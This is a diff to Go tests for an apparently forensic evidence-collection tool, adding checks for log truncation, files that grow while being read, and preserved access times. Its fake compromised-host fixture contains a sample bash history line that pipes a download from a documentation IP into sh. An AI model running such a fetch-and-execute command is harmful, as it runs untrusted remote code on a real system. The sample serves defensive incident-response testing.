@@ -14,6 +14,7 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
 
 	"filippo.io/age"
 	"github.com/klauspost/compress/zstd"
@@ -30,7 +31,7 @@ func suspectRoot(t *testing.T) *fixture.Root {
 	t.Helper()
 	r := fixture.Debian(t)
 	r.File("/var/log/auth.log", "Nov 26 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 4000 ssh2\n", 0o640)
-	r.File("/var/log/big.log", strings.Repeat("x", 3000), 0o640)
+	r.File("/var/log/big.log", "OLDEST"+strings.Repeat("x", 2988)+"NEWEST", 0o640)
 	r.File("/etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n", 0o600)
 	r.File("/etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAA host\n", 0o644)
 	r.File("/root/.bash_history", "curl -s http://203.0.113.9/x | sh\n", 0o600)
@@ -112,8 +113,8 @@ func TestCollectFixtureRoot(t *testing.T) {
 			t.Errorf("%s: how %q error %q, want %q with %q", c.path, it.How, it.Error, c.how, c.errHas)
 		}
 	}
-	if it := items["/var/log/big.log"]; it.Size != 1000 || it.OriginalSize != 3000 {
-		t.Errorf("truncated item: size %d of %d", it.Size, it.OriginalSize)
+	if it := items["/var/log/big.log"]; it.Size != 1000 || it.OriginalSize != 3000 || it.Offset != 2000 {
+		t.Errorf("truncated log: size %d of %d from %d", it.Size, it.OriginalSize, it.Offset)
 	}
 	if it := items["/etc/evil-link"]; it.Link != "/outside-secret" || it.SHA256 != "" {
 		t.Errorf("link item %+v", it)
@@ -149,6 +150,9 @@ func TestCollectFixtureRoot(t *testing.T) {
 		}
 	}
 	files := readTar(t, data)
+	if got := string(files["files/var/log/big.log"]); !strings.HasSuffix(got, "NEWEST") || strings.Contains(got, "OLDEST") {
+		t.Errorf("a truncated log keeps its newest end: %q...", got[:20])
+	}
 	body := string(files["timeline/bodyfile.txt"])
 	for _, want := range []string{"|/etc/passwd|", "|r/rrw-r--r--|", "|/etc/evil-link -> /outside-secret|", "|l/lrwxrwxrwx|", "|/var/log/pipe|", "|p/prw-------|"} {
 		if !strings.Contains(body, want) {
@@ -321,6 +325,59 @@ func TestShrinkingFile(t *testing.T) {
 	}
 	if rep, err := Verify(&buf, nil); err != nil || !rep.OK() {
 		t.Errorf("verify: %v %v", err, rep.Problems)
+	}
+}
+
+// TestGrowingFile: a log that grows while it is read is a live log, noted; any other file that
+// changes while it is read is an error.
+func TestGrowingFile(t *testing.T) {
+	for _, c := range []struct {
+		path    string
+		isError bool
+	}{{"/var/log/syslog", false}, {"/etc/shadow", true}} {
+		r := fixture.New(t)
+		r.File(c.path, "0123456789", 0o644)
+		fsys, err := hostfs.Open(r.Dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f, st, err := fsys.OpenStat(c.path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		st.Size = 4 // as if the last six bytes were appended after the stat
+		var buf bytes.Buffer
+		w, _ := NewWriter(&buf, nil, Limits{}, nil)
+		w.AddFile("test", c.path, HostArchivePath(c.path), f, st, "")
+		f.Close()
+		fsys.Close()
+		res, err := w.Finish(&Manifest{}, &Custody{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		it := res.Manifest.Items[0]
+		if (it.Error != "") != c.isError || it.Size != 4 || (!c.isError && !strings.Contains(it.Note, "being written")) {
+			t.Errorf("%s: error %q note %q size %d", c.path, it.Error, it.Note, it.Size)
+		}
+	}
+}
+
+// TestAccessTimesKept: collecting reads files without updating their access times.
+func TestAccessTimesKept(t *testing.T) {
+	r := suspectRoot(t)
+	old := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
+	p := r.Path("/var/log/auth.log")
+	// atime before mtime: under relatime any read would move it.
+	if err := os.Chtimes(p, old, old.Add(time.Hour)); err != nil {
+		t.Fatal(err)
+	}
+	collect(t, r.Dir, nil, Options{})
+	var st syscall.Stat_t
+	if err := syscall.Stat(p, &st); err != nil {
+		t.Fatal(err)
+	}
+	if got := time.Unix(st.Atim.Unix()); !got.Equal(old) {
+		t.Errorf("access time of auth.log moved to %v", got)
 	}
 }
 
